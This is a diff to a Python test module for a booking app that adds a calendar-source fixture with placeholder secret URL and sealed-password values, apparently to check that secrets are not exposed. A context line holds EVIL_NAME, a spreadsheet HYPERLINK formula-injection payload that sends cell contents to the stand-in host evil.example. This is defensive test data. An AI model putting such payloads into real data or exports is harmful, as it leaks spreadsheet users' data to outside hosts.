@@ -17,7 +17,13 @@ from sqlmodel import select
 
 from booking_app.api.app import api
 from booking_app.db import read_scope, session_scope
-from booking_app.models import AvailabilityOverride, BusyBlock, Lesson, SignInAttempt
+from booking_app.models import (
+    AvailabilityOverride,
+    BusyBlock,
+    CalendarSource,
+    Lesson,
+    SignInAttempt,
+)
 from booking_app.services import accounts, admin_ops, notifications
 from booking_app.services import booking as booking_svc
 from booking_app.services.sessions import open_session
@@ -27,6 +33,10 @@ from tests.support.builders import NOW, add_lesson, add_service, add_subject, ad
 
 T = TypeVar("T")
 EVIL_NAME = '=HYPERLINK("http://evil.example/?g="&B2,"guest")'
+
+
+CALENDAR_SECRET_URL = "https://calendar.example.com/ical/private-5ecre7abcdef/basic.ics"
+CALENDAR_SECRET_SEALED = "gAAAAABsealed-password-token-0123456789"
 
 
 @dataclass(frozen=True)
@@ -67,6 +77,12 @@ def build_world() -> World:
         session.add(AvailabilityOverride(tutor_id=tutor, day=NOW.date(), start_time=time(10)))
         session.add(BusyBlock(tutor_id=tutor, starts_at=NOW, ends_at=NOW + timedelta(hours=1)))
         session.add(SignInAttempt(email="x@example.com", ip="192.0.2.1", attempted_at=NOW))
+        session.add(  # a connected calendar: its address and sealed password are secrets
+            CalendarSource(
+                tutor_id=tutor, name="Personal", url=CALENDAR_SECRET_URL,
+                secret_enc=CALENDAR_SECRET_SEALED, username="olena-dav",
+            )
+        )  # fmt: skip
         lesson_id = session.exec(select(Lesson.id).where(Lesson.service_id == service)).one()
     admin_ops.set_active(admin_id, student.id, active=True, now=NOW)  # an audit log row
     return World(admin_id, student.id, tutor, service, created.token, lesson_id)
